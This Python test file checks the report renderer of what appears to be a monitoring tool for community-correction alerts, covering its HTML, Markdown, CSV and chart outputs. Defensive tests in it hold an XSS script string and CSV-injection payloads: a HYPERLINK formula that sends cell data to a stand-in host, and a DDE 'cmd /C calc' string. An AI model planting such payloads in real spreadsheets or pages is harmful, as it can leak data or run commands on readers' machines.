"""Each format renders; the charts are drawn with a real CJK font, not DejaVu."""

from __future__ import annotations

import csv
import dataclasses
import io
import re
import warnings

import pytest

from alerts.summary import charts, compute_summary, render
from config.model import OfficeSpec

from .fixture import BUNDLE, END, START, VERSION_TIMES, records


@pytest.fixture(scope="module")
def s():
    return compute_summary(records(), BUNDLE, START, END, version_times=VERSION_TIMES)


def test_html_has_chinese_and_english_headings_tables_and_three_charts(s):
    html = render(s, "html", "both")
    for heading in ("值班交接汇总 / Shift handover summary", "交接时仍需处理 / Still open at handover",
                    "待签收告警 / Not acknowledged", "签收用时 / Time to acknowledge",
                    "每小时告警数 / Alerts per hour", "人员工作量 / Load per officer",
                    "处置结果（已处置告警） / Dispositions (resolved alerts)"):
        assert heading in html
    assert html.count('<img class="chart"') == 3
    assert html.count("data:image/png;base64,iVBOR") == 3  # PNG signature, base64
    assert "越界（离开活动区域）" in html and "已升级上报" in html and "误报" in html
    assert "<table>" in html and "@media print" in html
    assert "A6" not in re.sub(r"base64,[^\"]+", "", html)  # the drill


def test_people_read_names_and_machines_keep_ids(s):
    """The printed sheet and the chat message name persons and officers; the ids of alerts,
    persons and officers are only in the CSV (and JSON), where a spreadsheet joins on them."""
    ids = re.compile(r"\b(A\d+|P\d|o-e1|o-w1|o-e-duty)\b")
    html = re.sub(r"(?s)base64,[^\"]+|<style>.*</style>", "", render(s, "html", "both"))
    md = render(s, "md", "zh")
    assert not ids.findall(html) and not ids.findall(md)
    assert "吴刚" in html and "郑西" in html and "吴刚" in md
    rows = list(csv.reader(io.StringIO(render(s, "csv", "zh")[1:])))
    i = [r[0] if r else "" for r in rows].index("# 待签收告警")
    assert rows[i + 1][:4] == ["级别", "类型", "社区矫正对象", "对象编号"]
    assert rows[i + 1][-1] == "告警编号" and [r[-1] for r in rows[i + 2:i + 6]] == ["A4", "A7", "A9", "A8"]


def test_office_names_from_the_bundle():
    offices = [OfficeSpec("west", "西关司法所"), OfficeSpec("east", "城东司法所")]
    named = compute_summary(records(), dataclasses.replace(BUNDLE, offices=offices), START, END,
                            version_times=VERSION_TIMES)
    md = render(named, "md", "zh")
    assert "| 紧急 | 进入禁入区域 | 吴刚 | 西关司法所 |" in md and "| west |" not in md


def test_html_escapes_what_it_shows(s):
    evil = s.model_copy(deep=True)
    evil.alerts[0].person_name = "<script>alert(1)</script>"
    assert "<script>alert(1)" not in render(evil, "html", "zh")


def test_markdown_for_chat(s):
    md = render(s, "md", "zh")
    assert md.startswith("## 值班交接汇总")
    assert "| 紧急 | 进入禁入区域 | 吴刚 | west |" in md
    assert "- 合计: **7**" in md
    assert "English" not in md and "Shift handover" not in md
    en = render(s, "md", "en")
    assert "## Shift handover summary" in en and not re.search(r"[\u4e00-\u9fff]", en.split("\n")[0])


def test_csv_sections_and_flat_list(s):
    text = render(s, "csv", "zh")
    assert text.startswith("\ufeff")  # so Excel / WPS read the Chinese as UTF-8
    rows = list(csv.reader(io.StringIO(text[1:])))
    titles = [r[0] for r in rows if r and r[0].startswith("# ")]
    assert "# 按类型" in titles and "# 告警明细" in titles and "# 签收用时" in titles
    i = [r[0] if r else "" for r in rows].index("# 按级别")
    assert rows[i + 1] == ["级别", "数量"] and rows[i + 2] == ["紧急", "3"]
    flat = list(csv.reader(io.StringIO(render(s, "csv", "en", csv_layout="alerts")[1:])))
    assert flat[0][:3] == ["alert id", "opened", "type"]
    assert [r[0] for r in flat[1:]] == ["A1", "A2", "A3", "A4", "A5", "A7", "A9"]
    a2 = flat[2]
    assert a2[flat[0].index("time to ack (min)")] == "6.0"
    assert a2[flat[0].index("disposition")] == "false alarm"


def test_bad_format_or_lang(s):
    with pytest.raises(ValueError):
        render(s, "pdf")
    with pytest.raises(ValueError):
        render(s, "md", "fr")


def test_chart_labels_use_the_cjk_font(s):
    from matplotlib import font_manager as fm
    from matplotlib.ft2font import FT2Font

    font = charts.cjk_font()
    for make in (charts.hourly_figure, charts.ack_figure):
        with warnings.catch_warnings():
            warnings.simplefilter("error")  # "Glyph ... missing from font" would raise here
            fig = make(s, "zh")
        ax = fig.axes[0]
        for label in (ax.title, ax.xaxis.label, ax.yaxis.label):
            text = label.get_text()
            assert re.search(r"[\u4e00-\u9fff]", text), text
            path = fm.findfont(label.get_fontproperties(), fallback_to_default=False)
            assert path == font.path
            face = FT2Font(path)
            assert "DejaVu" not in face.family_name
            assert all(face.get_char_index(ord(c)) for c in text if not c.isspace()), text
    assert "CJK" in font.name or "WenQuanYi" in font.name or "Han" in font.name


def test_chart_png_renders_without_missing_glyphs(s):
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        png = charts.ack_png(s, "both")
    assert png.startswith(b"\x89PNG")


def test_no_cjk_font_fails_clearly(monkeypatch, tmp_path):
    from matplotlib import font_manager as fm

    dejavu = fm.findfont("DejaVu Sans")
    charts.cjk_font.cache_clear()
    try:
        monkeypatch.setenv("LOOKOUT_CJK_FONT", dejavu)  # a real font, but without Chinese
        with pytest.raises(charts.CJKFontMissing, match="fonts-noto-cjk"):
            charts.cjk_font()
        charts.cjk_font.cache_clear()
        monkeypatch.setenv("LOOKOUT_CJK_FONT", str(tmp_path / "nope.ttf"))
        with pytest.raises(charts.CJKFontMissing, match="no such font file"):
            charts.cjk_font()
    finally:
        charts.cjk_font.cache_clear()


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_are_made_text(lead):
    """OWASP CSV injection: a name typed into the bundle as a formula must reach Excel or WPS
    as text, with a leading apostrophe, in both layouts."""
    from dataclasses import replace

    evil = f"{lead}HYPERLINK(\"http://x.example/?\"&A1,\"孙立\")"
    persons = [replace(p, name=evil) if p.person_id == "P1" else p for p in BUNDLE.persons]
    officers = [replace(o, name=f"{lead}cmd|' /C calc'!A0") if o.officer_id == "o-e1" else o
                for o in BUNDLE.officers]
    s = compute_summary(records(), replace(BUNDLE, persons=persons, officers=officers),
                        START, END, version_times=VERSION_TIMES)
    for layout in ("sections", "alerts"):
        cells = [c for row in csv.reader(io.StringIO(render(s, "csv", "zh", csv_layout=layout)[1:]))
                 for c in row]
        assert f"'{evil}" in cells, layout
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], layout
    rows = list(csv.reader(io.StringIO(render(s, "csv", "zh")[1:])))
    assert any(r[:1] == [f"'{lead}cmd|' /C calc'!A0"] for r in rows)  # the load table's officer

